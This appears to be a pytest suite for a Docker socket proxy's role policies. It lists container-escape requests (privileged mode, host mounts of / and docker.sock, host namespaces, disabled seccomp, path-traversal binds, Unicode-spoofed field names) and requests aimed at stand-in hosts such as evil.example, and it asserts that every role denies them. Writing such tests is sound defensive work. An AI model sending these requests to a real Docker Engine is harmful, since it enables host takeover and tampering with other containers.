"""The ways out of a container, and round a policy, that no shipped role leaves open.

Each request is one that the role allows, plus one thing: so it is this thing that is refused.
"""

from __future__ import annotations

import json
from functools import cache
from typing import TYPE_CHECKING, Any

import pytest

from sockguard.engine.facts import ID, Thing
from sockguard.policy.load import load_policy, shipped_folder
from sockguard.policy.ownership import STAMP
from sockguard.policy.question import Effect, OwnObjects
from sockguard.policy.rehearse import rehearse
from tests.corpus.consumers import LABELS, RELOAD

if TYPE_CHECKING:
    from collections.abc import Mapping

    from sockguard.policy.model import Policy
    from sockguard.policy.question import Decision

ROOT_ANYWAY = {"everything", "portainer", "watchtower"}
"""Roles that create what others ask of them, whatever it is."""

CREATING: Mapping[str, dict[str, Any]] = {
    "ci-runner": {"Image": "alpine", "HostConfig": {"Memory": 1 << 30}},
    "compose": {"Image": "alpine", "HostConfig": {}},
    "deploy-bot": {
        "Image": "registry.example.com/shop/web",
        "Labels": {"deploy": "true"},
        "HostConfig": {},
    },
    "github-runner": {"Image": "alpine", "HostConfig": {}},
    "gitlab-runner": {"Image": "alpine", "HostConfig": {}},
    "testcontainers": {"Image": "postgres", "HostConfig": {}},
    "testcontainers-ryuk": {"Image": "postgres", "HostConfig": {}},
}
"""The least that each role lets be created."""

ROLES = sorted({path.stem for path in shipped_folder().glob("*.yaml")} - ROOT_ANYWAY)

_DRIVER = {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}

HOST_CONFIG: tuple[dict[str, Any], ...] = (
    # Powers and devices.
    {"Privileged": True},
    {"CapAdd": ["SYS_ADMIN"]},
    {"CapAdd": ["ALL"]},
    {"CapAdd": ["cap_sys_ptrace"]},
    {
        "Devices": [
            {"PathOnHost": "/dev/sda", "PathInContainer": "/dev/x", "CgroupPermissions": "rwm"}
        ]
    },
    {"DeviceRequests": [{"Driver": "nvidia", "Count": -1, "Capabilities": [["gpu"]]}]},
    {"DeviceCgroupRules": ["b *:* rwm"]},
    {"SecurityOpt": ["seccomp=unconfined"]},
    {"SecurityOpt": ["apparmor:unconfined"]},
    {"SecurityOpt": ["label:disable"]},
    {"SecurityOpt": ["systempaths=unconfined"]},
    {"MaskedPaths": []},
    {"ReadonlyPaths": []},
    {"Sysctls": {"kernel.core_pattern": "|/x"}},
    {"Runtime": "other"},
    {"CgroupParent": "/"},
    {"OomScoreAdj": -1000},
    # The host's namespaces, and those of other containers.
    {"NetworkMode": "host"},
    {"NetworkMode": "container:db"},
    {"NetworkMode": "ns:/proc/1/ns/net"},
    {"PidMode": "host"},
    {"PidMode": "container:db"},
    {"IpcMode": "host"},
    {"IpcMode": "container:db"},
    {"UTSMode": "host"},
    {"UsernsMode": "host"},
    {"CgroupnsMode": "host"},
    # Paths of the host.
    {"Binds": ["/:/host"]},
    {"Binds": ["/etc:/x:ro"]},
    {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]},
    {"Binds": ["/run/docker.sock:/s:ro"]},
    {"Binds": ["/run:/x:ro"]},
    {"Binds": ["/dev/null/../../etc:/x"]},
    {"Binds": ["/dev/../:/x:ro"]},
    {"Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]},
    {
        "Mounts": [
            {"Type": "bind", "Source": "/var/run/docker.sock", "Target": "/s", "ReadOnly": True}
        ]
    },
    {"Mounts": [{"Type": "bind", "Source": "//etc", "Target": "/x", "ReadOnly": True}]},
    {"Mounts": [{"Type": "volume", "Target": "/x", "VolumeOptions": {"DriverConfig": _DRIVER}}]},
    {"Mounts": [{"Type": "volume", "Source": "host", "Target": "/x"}]},
    {"Mounts": [{"Type": "npipe", "Source": "/x", "Target": "/x"}]},
    {"Mounts": [{"Type": "cluster", "Source": "x", "Target": "/x"}]},
    {
        "Mounts": [
            {
                "Type": "volume",
                "Source": "own",
                "Target": "/x",
                "VolumeOptions": {"Subpath": "../.."},
            }
        ]
    },
    {"Binds": ["host:/x"]},
    {"VolumesFrom": ["db"]},
    {"VolumesFrom": ["db:ro"]},
    {"VolumeDriver": "other"},
    # Other containers and the network.
    {"Links": ["db:db"]},
    {"NetworkMode": "prod"},
    {"LogConfig": {"Type": "syslog", "Config": {"syslog-address": "tcp://evil.example:1"}}},
    # Other spellings, and what nobody knows.
    {"privileged": True},
    {"PRIVILEGED": True},
    {"Pr\u0131vileged": True},
    {"bindS": ["/:/host"]},
    {"Bind\u017f": ["/:/host"]},
    {"Rootfs": "/"},
    {"ContainerIDFile": "/etc/x", "KernelCaps": "all"},
)
"""What a creation may ask for in HostConfig, each a way out."""

FIELDS: tuple[dict[str, Any], ...] = (
    {"hostConfig": {"Privileged": True}},
    {"HO\u017fTCONFIG": {"Privileged": True}},
    {"NetworkingConfig": {"EndpointsConfig": {"prod": {}}}},
    {"NetworkingConfig": {"EndpointsConfig": {"host": {}}}},
    {"Image": "evil.example/x"},
    {"Image": "docker.io/evil/x"},
    {"Env": ["TOKEN=sockguard:masked"]},
    {"Rootfs": "/"},
)
"""The same, beside HostConfig."""

OTHERS: tuple[tuple[str, Any], ...] = (
    # Into containers of others.
    ("POST /containers/db/exec", {"Cmd": ["sh"]}),
    ("POST /containers/db/exec", {"Cmd": ["sh"], "Privileged": True}),
    ("POST /exec/4bb9a7d1c0de/start", {}),
    ("POST /exec/4bb9a7d1c0de/start", {"Detach": True}),
    ("POST /containers/db/attach?stdin=1&stream=1", None),
    ("GET /containers/db/attach/ws?stdin=1&stream=1", None),
    ("PUT /containers/db/archive?path=/", None),
    ("GET /containers/db/archive?path=/etc", None),
    ("GET /containers/db/export", None),
    ("GET /containers/db/logs?stdout=1", None),
    ("GET /containers/db/top?ps_args=eww", None),
    ("POST /containers/db/update", {"Memory": 1}),
    ("POST /containers/db/stop", None),
    ("POST /containers/db/kill", None),
    ("POST /containers/db/rename?name=own", None),
    ("DELETE /containers/db?force=1&v=1", None),
    ("POST /commit?container=db&repo=x", {}),
    ("POST /containers/db/checkpoints", {"CheckpointID": "a", "CheckpointDir": "/"}),
    ("POST /containers/db/start?checkpoint=a&checkpoint-dir=/etc", None),
    ("POST /networks/prod/connect", {"Container": "db"}),
    ("POST /networks/prod/disconnect", {"Container": "db"}),
    ("DELETE /networks/prod", None),
    ("DELETE /volumes/host", None),
    # Volumes and networks that are more than that.
    ("POST /volumes/create", {"Name": "x", "DriverOpts": _DRIVER["Options"]}),
    ("POST /volumes/create", {"Name": "x", "Driver": "other"}),
    ("POST /volumes/create", {"Name": "x", "ClusterVolumeSpec": {"Group": "x"}}),
    ("POST /networks/create", {"Name": "x", "Driver": "macvlan", "Options": {"parent": "eth0"}}),
    ("POST /networks/create", {"Name": "x", "ConfigFrom": {"Network": "prod"}}),
    # Images that others run.
    ("POST /images/create?fromImage=evil.example/x&tag=1", None),
    ("POST /images/create?fromSrc=http://evil.example/x.tar&repo=alpine", None),
    ("POST /images/create?fromSrc=-&repo=registry.example.com/shop/web", None),
    ("POST /images/evil/tag?repo=alpine&tag=latest", None),
    ("POST /images/alpine/push", None),
    ("POST /images/load", None),
    ("GET /images/get?names=alpine", None),
    ("DELETE /images/alpine?force=1", None),
    ("POST /images/prune", None),
    # Builds.
    ("POST /build?networkmode=host", None),
    ("POST /build?networkmode=container:db", None),
    ("POST /build?remote=http://evil.example/x.git", None),
    ("POST /build?t=alpine", None),
    ("POST /grpc", None),
    ("POST /session", None),
    # Plugins and the swarm.
    ("POST /plugins/pull?remote=evil/x", []),
    ("POST /plugins/create?name=x", None),
    ("POST /plugins/x/enable", None),
    ("POST /plugins/x/set", ["X=y"]),
    ("POST /plugins/x/upgrade?remote=evil/x", []),
    ("POST /swarm/init", {"ListenAddr": "0.0.0.0:2377"}),
    ("POST /swarm/join", {"JoinToken": "x"}),
    ("GET /swarm/unlockkey", None),
    (
        "POST /services/create",
        {"Name": "x", "TaskTemplate": {"ContainerSpec": {"Image": "alpine", "Privileges": {}}}},
    ),
    ("POST /services/x/update?version=1&rollback=previous", {"Name": "x"}),
    ("POST /services/x/update?version=1", {"Name": "x", "PreviousSpec": {"Name": "x"}}),
    ("POST /secrets/create", {"Name": "x", "Data": "eA=="}),
    ("POST /nodes/x/update?version=1", {"Role": "manager"}),
    # The Engine itself.
    ("POST /containers/prune", None),
    ('POST /volumes/prune?filters={"all":["true"]}', None),
    ("POST /networks/prune", None),
    ("POST /auth", {"username": "a", "password": "b"}),
    ("GET /debug/pprof/heap", None),
    ("GET /containers/%6ason", None),
    ("GET /v4.0.0/libpod/containers/json", None),
    ("POST /containers/create/", {"Image": "alpine"}),
    ("POST //containers/create", {"Image": "alpine"}),
    ("PUT /containers/create", {"Image": "alpine"}),
    ("OPTIONS /containers/json", None),
)
"""Requests whole."""

LOGS = "GET /containers/db/logs?stdout=1"
STOPS = ("POST /containers/db/stop", "DELETE /containers/db?force=1&v=1")
HANDED_OVER: Mapping[str, tuple[str, ...]] = {
    **dict.fromkeys(("alloy", "docker-cli-read-only", "dozzle", "dozzle-shell"), (LOGS,)),
    **dict.fromkeys(("lazydocker", "telegraf-logs", "vector"), (LOGS,)),
    **dict.fromkeys(("dozzle-actions", "lazydocker-actions"), (LOGS, *STOPS)),
    "github-runner": ("POST /networks/prune",),  # of its own, by the stamp
}
"""What of it a role is there for."""

OTHERS_OBJECTS: Mapping[str, Thing | None] = {
    kind: thing
    for name, one in {
        "container": Thing("container", "b" * 64, ("db",), {}),
        "network": Thing("network", "c" * 64, ("prod",), {}),
        "volume": Thing("volume", "host", ("host",), {}, host_path="/etc"),
        "image": Thing("image", "sha256:" + "d" * 64, ("docker.io/library/alpine:latest",), {}),
        "exec": Thing("exec", "e" * 64, (), {}, container="b" * 64, creator="other"),
    }.items()
    for kind, thing in ((name, one), (f"{name}{ID}", one))
}
"""What the Engine would tell: all that there is belongs to others, and the volume to the host."""


NOTHING_OWN = OwnObjects()


@cache
def served(role: str) -> Policy:
    """The role on the main socket; loading it runs the cases of all that are shipped."""
    return load_policy(role, shipped=shipped_folder())


def judge(
    role: str,
    do: str,
    body: object,
    given: Mapping[str, Thing | None],
    own: OwnObjects = NOTHING_OWN,
) -> Decision:
    method, _, target = do.partition(" ")
    policy = served(role)
    data = None if body is None else json.dumps(body).encode()
    client = policy.clients["main"]
    asked = rehearse(client, method, target, data, own, given=given, stamps=policy.stamps)
    return asked.decision


def created(role: str, change: Mapping[str, Any]) -> Decision:
    body = {**CREATING[role], **change}
    return judge(role, "POST /v1.47/containers/create?name=x", body, OTHERS_OBJECTS)


def with_host_config(role: str, change: Mapping[str, Any]) -> Mapping[str, Any]:
    return {"HostConfig": {**CREATING[role]["HostConfig"], **change}}


def test_every_role_that_creates_containers_has_a_least_one() -> None:
    creating = {r for r in ROLES if "containers.create" in served(r).clients["main"].role.grants}
    assert creating == set(CREATING)


@pytest.mark.parametrize("role", CREATING)
def test_the_least_that_a_role_creates_passes(role: str) -> None:
    assert created(role, {}).effect is Effect.ALLOW


@pytest.mark.parametrize("change", HOST_CONFIG, ids=json.dumps)
@pytest.mark.parametrize("role", CREATING)
def test_no_container_gets_a_way_out_in_its_host_config(
    role: str, change: Mapping[str, Any]
) -> None:
    assert created(role, with_host_config(role, change)).effect is Effect.DENY


@pytest.mark.parametrize("change", FIELDS, ids=json.dumps)
@pytest.mark.parametrize("role", CREATING)
def test_no_container_gets_a_way_out_beside_its_host_config(
    role: str, change: Mapping[str, Any]
) -> None:
    assert created(role, change).effect is Effect.DENY


@pytest.mark.parametrize("role", sorted(CREATING.keys() - {"gitlab-runner"}))
def test_no_image_goes_by_what_could_be_an_id(role: str) -> None:
    for image in ("4bb9a7d1c0de", "sha256:" + "4b" * 32):
        assert created(role, {"Image": image}).detail == "Image"


@pytest.mark.parametrize(("do", "body"), OTHERS, ids=lambda one: str(one)[:60])
@pytest.mark.parametrize("role", ROLES)
def test_no_request_reaches_what_belongs_to_others(role: str, do: str, body: object) -> None:
    handed_over = do in HANDED_OVER.get(role, ())
    expected = Effect.ALLOW if handed_over else Effect.DENY
    assert judge(role, do, body, OTHERS_OBJECTS).effect is expected


OURS = OwnObjects(
    container_id="f" * 64,
    container_names=frozenset({"sockguard"}),
    volumes=frozenset({"sockguard-sockets"}),
    images=frozenset({"docker.io/acme/sockguard:1"}),
)
AT_OURS: tuple[tuple[str, Any], ...] = (
    *((f"POST /containers/sockguard/{verb}", None) for verb in ("stop", "restart", "kill")),
    *((f"POST /containers/sockguard/{verb}", None) for verb in ("pause", "start")),
    ("POST /containers/sockguard/kill?signal=HUP", None),
    ("POST /containers/sockguard/rename?name=x", None),
    ("POST /containers/sockguard/update", {"Memory": 1 << 23}),
    ("POST /containers/sockguard/exec", {"Cmd": ["sh"]}),
    ("POST /containers/sockguard/exec", {"Cmd": ["sh", "-c", RELOAD]}),
    ("POST /containers/sockguard/attach?stdout=1&stream=1", None),
    ("GET /containers/sockguard/logs?stdout=1", None),
    ("GET /containers/sockguard/top", None),
    ("GET /containers/sockguard/archive?path=/", None),
    ("PUT /containers/sockguard/archive?path=/", None),
    ("GET /containers/sockguard/export", None),
    ("DELETE /containers/sockguard?force=1", None),
    ("POST /commit?container=sockguard&repo=x", {}),
    ("POST /networks/prod/disconnect", {"Container": "sockguard"}),
    ("DELETE /volumes/sockguard-sockets", None),
    ("DELETE /images/acme/sockguard:1", None),
    ("POST /images/alpine/tag?repo=acme/sockguard&tag=1", None),
)
"""What sockguard would have to fear for itself."""


@pytest.mark.parametrize("role", sorted({*ROLES, *ROOT_ANYWAY}))
def test_no_role_touches_sockguard_itself(role: str) -> None:
    labels = {STAMP: "main", **LABELS.get(role, {})}
    ours = Thing("container", "f" * 64, ("sockguard",), labels)
    volume = Thing("volume", "sockguard-sockets", ("sockguard-sockets",), {STAMP: "main"})
    given = {
        **OTHERS_OBJECTS,
        "container": ours,
        f"container{ID}": ours,
        "volume": volume,
        f"volume{ID}": volume,
    }
    for do, body in AT_OURS:
        assert judge(role, do, body, given, OURS).effect is Effect.DENY, do


@pytest.mark.parametrize("role", sorted({*ROLES, *ROOT_ANYWAY}))
@pytest.mark.parametrize(
    "way_in",
    [
        {"VolumesFrom": ["sockguard"]},
        {"NetworkMode": "container:sockguard"},
        {"PidMode": "container:sockguard"},
        {"Binds": ["sockguard-sockets:/x"]},
        {"Mounts": [{"Type": "volume", "Source": "sockguard-sockets", "Target": "/x"}]},
    ],
    ids=json.dumps,
)
def test_no_role_makes_a_container_on_sockguards_own(role: str, way_in: dict[str, Any]) -> None:
    ours = Thing("container", "f" * 64, ("sockguard",), {})
    volume = Thing("volume", "sockguard-sockets", ("sockguard-sockets",), {})
    given = {**OTHERS_OBJECTS, "container": ours, f"container{ID}": ours, "volume": volume}
    base = CREATING.get(role, {"Image": "alpine", "Labels": LABELS.get(role, {})})
    body = {**base, "HostConfig": {**base.get("HostConfig", {}), **way_in}}
    decision = judge(role, "POST /containers/create?name=x", body, given, OURS)
    assert decision.effect is Effect.DENY


def test_an_owner_is_told_by_the_stamp() -> None:
    mine = Thing("container", "b" * 64, ("job",), {STAMP: "main"})
    given = {**OTHERS_OBJECTS, "container": mine, f"container{ID}": mine}
    assert judge("ci-runner", "POST /containers/job/stop", None, given).effect is Effect.ALLOW
